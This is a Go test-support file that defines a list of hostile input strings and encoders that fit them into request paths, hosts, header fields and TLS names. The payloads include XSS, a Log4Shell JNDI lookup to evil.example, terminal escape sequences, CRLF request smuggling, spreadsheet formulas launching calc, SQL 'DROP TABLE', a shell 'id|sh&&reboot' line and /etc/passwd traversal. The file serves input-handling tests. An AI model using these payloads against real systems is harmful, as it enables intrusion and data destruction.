// Package hostile is what strangers send to do harm where it is shown: in a page, a terminal, a spreadsheet, a query or
// a stream of records. Tests put each text into each field that a stranger controls.
package hostile

import (
	"fmt"
	"strings"
)

// Text is one of them.
type Text struct {
	Name  string
	Bytes string // any bytes, and not only UTF-8. None begins or ends with a blank: protocols drop these
}

// Texts are all of them.
var Texts = []Text{
	{"script element", `<script>document.title='owned'</script>`},
	{"image with a handler", `"><img src=x onerror="document.title='owned'">`},
	{"SVG with a handler", `<svg/onload=alert(1)>`},
	{"end of an attribute in single quotes", `' onmouseover='alert(1)' x='`},
	{"frame with a document", `<iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>`},
	{"base and stylesheet", `<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>`},
	{"end of a title and a comment", `--></title></textarea></script><script>alert(1)</script><!--`},
	{"URL of JavaScript", `javascript:alert(document.cookie)`},
	{"URL of data", `data:text/html,<script>alert(1)</script>`},
	{"entities", `&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;img src=x&#x3e;`},
	{"template of a page", `{{constructor.constructor('alert(1)')()}}`},
	{"template of a server", `<%= 7*7 %>#{7*7}${7*7}{{7*7}}{%25 for x in y %}`},
	{"look-up in a logger", `${jndi:ldap://evil.example/x}`},
	{"names of the prototype", `__proto__`},
	{"quotes and backslashes", "\"'`\\\"\\'\\\\"},
	{"what pages write for other characters", `\u202e\x1b\xff\u{1f600}\u005cn`},
	{"format of a C string", `%s%n%x%d%%`},
	{"escape sequence that clears a terminal", "\x1b[2J\x1b[31mred"},
	{"escape sequence that sets a title and a link",
		"\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\"},
	{"escape sequence in eight bits", "\u009b31m\u009d0;owned\u009c"},
	{"backspaces and delete", "safe\b\b\b\bevil\x7f"},
	{"NUL", "before\x00after"},
	{"another line", "a\r\nX-Forged: 1\r\n\r\nGET /forged HTTP/1.1\r\n\r\n"},
	{"another message of syslog", "a\n<13>1 2026-01-01T00:00:00Z forged weir - - - owned"},
	{"other ends of lines", "a\u0085b\u2028c\u2029d\ve\ff"},
	{"tab", "a\tb"},
	{"overrides of the direction", "\u202egnp.exe\u202c\u2066x\u2069"},
	{"characters without a width", "a\u200bb\u200cc\u200dd\ufeffe\u2060f"},
	{"tags that do not show", "a\U000e0041\U000e0042\U000e007f"},
	{"combining characters", "z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308"},
	{"bytes that are no UTF-8", "\xff\xfe\x80\xbf"},
	{"overlong forms", "\xc0\xbcscript\xc0\xbe\xe0\x80\xaf\xf0\x80\x80\xaf"},
	{"surrogates, and a character that is cut off", "\xed\xa0\x80\xed\xb0\x80\xf0\x9f\x98"},
	{"character of the range that stands for bytes", "a\U0010feffb\U0010fe07c"},
	{"formula of a spreadsheet", `=cmd|' /C calc'!A0`},
	{"formula that begins with +", `+1+cmd|' /C calc'!A0`},
	{"formula that begins with -", `-2+3+cmd|' /C calc'!A0`},
	{"formula that begins with @", `@SUM(1+9)*cmd|' /C calc'!A0`},
	{"formula that begins with a wide character", "\uff1d1+1"},
	{"rows of a table", "a\",\"b\"\n\"=1+1\",c;d"},
	{"JSON", `","weight":999999,"tenant":"other","x":{"$ne":null},"y":["`},
	{"query of the record store", `* | delete or not scope:* | stats count() "x" _time:5m`},
	{"condition of the API", `a") or ne(tenant,"b`},
	{"labels of a metric", `x",job="y"} or vector(1) # {__name__=~".+"}`},
	{"metrics in text", "x\"} 1\nforged_total{a=\"b\"} 42\n# TYPE forged counter"},
	{"statement of SQL", `'; DROP TABLE records; --`},
	{"command of a shell", "$(touch /tmp/owned);`id`|sh&&reboot"},
	{"path to elsewhere", `../../../../etc/passwd%00.png`},
	{"very long", strings.Repeat("<b>long", 150)},
}

// Path is a text as the path of a request.
func (t Text) Path() string {
	return "/" + percent(t.Bytes, func(b byte) bool { return isVisible(b) && b != '?' && b != '#' })
}

// Query is a text as what follows the question mark of a request.
func (t Text) Query() string {
	return percent(t.Bytes, func(b byte) bool { return isVisible(b) && b != '#' })
}

// Host is a text as a host (RFC 3986 §3.2.2).
func (t Text) Host() string {
	return percent(t.Bytes, func(b byte) bool {
		return isAlphanumeric(b) || strings.IndexByte("-._~!$&'()*+,;=", b) >= 0
	})
}

// Token is a text as a method or the name of a field (RFC 9110 §5.6.2).
func (t Text) Token() string {
	return percent(t.Bytes, func(b byte) bool {
		return isAlphanumeric(b) || strings.IndexByte("!#$&'*+-.^_`|~", b) >= 0
	})
}

// Value is a text as the value of a field (RFC 9110 §5.5).
func (t Text) Value() string { return percent(t.Bytes, isOfValues) }

// IsValue tells whether a field may have the text as its value as it is.
func (t Text) IsValue() bool { return t.Value() == t.Bytes }

// ServerName is a text as the name that a client of TLS asks for: one label of letters, digits and underscores.
func (t Text) ServerName() string {
	const most = 60
	name := []byte(t.Bytes[:min(len(t.Bytes), most)])
	for i, b := range name {
		if !isAlphanumeric(b) {
			name[i] = '_'
		}
	}
	return string(name) + "_"
}

func isVisible(b byte) bool  { return b > ' ' && b < 0x7f }
func isOfValues(b byte) bool { return b == '\t' || b >= ' ' && b != 0x7f }

func isAlphanumeric(b byte) bool {
	return b >= '0' && b <= '9' || b >= 'A' && b <= 'Z' || b >= 'a' && b <= 'z'
}

// percent writes bytes that a place does not admit as %XX.
func percent(text string, admits func(byte) bool) string {
	var written strings.Builder
	for i := range len(text) {
		if admits(text[i]) {
			written.WriteByte(text[i])
		} else {
			fmt.Fprintf(&written, "%%%02X", text[i])
		}
	}
	return written.String()
}
